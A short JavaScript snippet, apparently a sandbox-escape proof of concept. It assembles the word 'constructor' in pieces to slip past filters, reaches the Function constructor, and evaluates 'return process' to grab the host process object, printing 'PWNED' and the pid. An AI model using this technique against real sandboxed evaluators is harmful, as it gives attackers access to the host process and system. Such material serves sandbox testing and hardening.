const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
console.log('PWNED', Array.from({ length: 1 }, () => t)[0].go(fn)('return process')().pid);
